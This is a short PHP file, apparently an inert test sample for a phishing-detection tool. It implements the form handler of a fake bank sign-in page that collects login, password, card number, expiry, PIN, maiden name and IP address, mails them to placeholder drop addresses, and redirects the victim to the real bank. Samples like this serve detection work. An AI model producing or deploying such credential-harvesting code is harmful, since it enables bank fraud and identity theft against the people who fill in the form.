<?
// Inert test sample (webhunt): the form handler of a fake bank sign-in page. Everything the victim
// typed is written into a report and mailed to two addresses kept in the script, then the victim is
// sent on to the real bank.
$report  = "==== sign-in report ====\n";
$report .= "Login: " . $_POST['login_id'] . "\n";
$report .= "Password: " . $_POST['password'] . "\n";
$report .= "Card: " . $_POST['card_number'] . "\n";
$report .= "Expiry: " . $_POST['exp_date'] . "\n";
$report .= "PIN: " . $_POST['atm_pin'] . "\n";
$report .= "Maiden name: " . $_POST['mother_maiden'] . "\n";
$report .= "From: " . getenv('REMOTE_ADDR') . "\n";
$to = "drop.one@example.invalid, drop.two@example.invalid";
mail("$to", "bank report", $report);
header("Location: https://bank.example.invalid/signin");
